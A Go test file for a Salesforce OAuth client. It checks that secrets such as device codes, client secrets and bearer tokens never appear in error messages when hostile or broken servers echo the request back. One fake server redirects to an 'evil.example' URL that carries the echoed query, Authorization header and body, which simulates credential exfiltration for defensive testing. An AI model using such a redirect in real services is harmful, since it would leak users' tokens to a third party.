package salesforce

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
)

// More distinctive secrets, for the device flow, revoke and userinfo.
const (
	leakDeviceCode  = "Dc-7e1f04aa"
	leakRevokeToken = "Rv-3c9d22e8"
	leakBearer      = "Bt-00Dx51f0"
)

// echoAllServer answers page with %s filled by everything the request carried: query,
// Authorization header and body, as a debugging proxy might.
func echoAllServer(t *testing.T, status int, contentType, page string) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		raw, _ := io.ReadAll(r.Body)
		echo := r.URL.RawQuery + " " + r.Header.Get("Authorization") + " " + string(raw)
		if status >= 300 && status < 400 {
			w.Header().Set("Location", "https://evil.example/?"+url.QueryEscape(echo))
		}
		w.Header().Set("Content-Type", contentType)
		w.WriteHeader(status)
		_, _ = fmt.Fprintf(w, page, echo)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestNewEndpointsNeverPutSecretsInErrors(t *testing.T) {
	secrets := []string{leakDeviceCode, leakClientSecret, leakRevokeToken, leakBearer}
	ctx := context.Background()
	dreq := func(loginURL string) DeviceLoginRequest {
		return DeviceLoginRequest{LoginURL: loginURL, ClientID: "3MVG9consumerKey", ClientSecret: leakClientSecret}
	}
	// calls runs every new method against base and returns their errors, named.
	calls := func(c *HTTPClient, base string) map[string]error {
		_, startErr := c.StartDeviceLogin(ctx, dreq(base))
		_, pollErr := c.PollDeviceLogin(ctx, dreq(base), leakDeviceCode)
		_, uiErr := c.UserInfo(ctx, base, leakBearer)
		return map[string]error{
			"start": startErr, "poll": pollErr,
			"revoke": c.Revoke(ctx, base, leakRevokeToken), "userinfo": uiErr,
		}
	}

	type failure struct {
		name string
		err  error
	}
	var failures []failure
	add := func(prefix string, errs map[string]error) {
		for name, err := range errs {
			failures = append(failures, failure{prefix + "/" + name, err})
		}
	}

	answers := []struct {
		name, contentType, page string
		status                  int
	}{
		{"HTML 503 echoing the request", "text/html", "<html><body>Unavailable: %s</body></html>", 503},
		{"HTML 200 echoing the request", "text/html", "<html><body>Welcome: %s</body></html>", 200},
		{"HTML 400 echoing the request", "text/html", "<html>Bad request %s</html>", 400},
		{"HTML 403 echoing the request", "text/html", "<html>Forbidden %s</html>", 403},
		{"text 400 echoing the request", "text/plain", "upstream said: %s", 400},
		{"form 400 echoing into the error field", "text/plain", "error=%s", 400},
		{"text 502 echoing the request", "text/plain", "upstream said: %s", 502},
		{"JSON 500 echoing the request in an unknown field", "application/json", `{"debug":%q}`, 500},
		{"JSON 400 without code echoing the request", "application/json", `{"request":%q}`, 400},
		{"JSON 401 echoing the request", "application/json", `[{"message":%q}]`, 401},
		{"JSON 400 echoing the request into error_description", "application/json", `{"error":"invalid_grant","error_description":%q}`, 400},
		{"JSON 400 echoing the request into error", "application/json", `{"error":%q}`, 400},
		{"form 400 echoing the request into error_description", "text/plain", "error=invalid_token&error_description=%s", 400},
		{"redirect carrying the request", "text/html", "<a>%s</a>", 307},
		{"200 truncated JSON", "application/json", `{"device_code":"` + leakDeviceCode + `","request":%q`, 200},
		{"200 JSON missing fields", "application/json", `{"device_code":"` + leakDeviceCode + `","request":%q}`, 200},
		{"200 JSON with wrong types", "application/json", `{"user_id":[%q],"device_code":1}`, 200},
	}
	for _, a := range answers {
		srv := echoAllServer(t, a.status, a.contentType, a.page)
		errs := calls(newTestClient(), srv.URL)
		if a.status == 200 {
			// Revoke has nothing to parse on a 200; it succeeds whatever the body.
			delete(errs, "revoke")
		}
		add(a.name, errs)
	}

	closed := httptest.NewServer(http.NotFoundHandler())
	closed.Close()
	add("refused", calls(newTestClient(), closed.URL))
	add("timeout", calls(newTestClient(WithTimeout(20*time.Millisecond)), blockingServer(t).URL))

	// Validation failures: secrets in the URLs.
	for _, bad := range []string{
		"https://u:" + leakClientSecret + "@login.salesforce.com",
		"https://login.salesforce.com/?t=" + leakRevokeToken,
		"https://" + leakBearer + "%zz",
		"https://login.salesforce.com/" + leakDeviceCode,
	} {
		add("validation", calls(newTestClient(), bad))
	}

	if len(failures) < 60 {
		t.Fatalf("only %d failures collected; the test lost coverage", len(failures))
	}
	for _, f := range failures {
		if f.err == nil {
			t.Errorf("%s: want an error", f.name)
			continue
		}
		e := asError(t, f.err)
		texts := []string{f.err.Error(), e.Code, e.Description, e.Message, fmt.Sprintf("%v", f.err)}
		if e.Err != nil {
			texts = append(texts, e.Err.Error())
		}
		for _, text := range texts {
			for _, s := range secrets {
				if strings.Contains(text, s) {
					t.Errorf("%s: error text %q contains a secret", f.name, text)
				}
			}
		}
	}
}
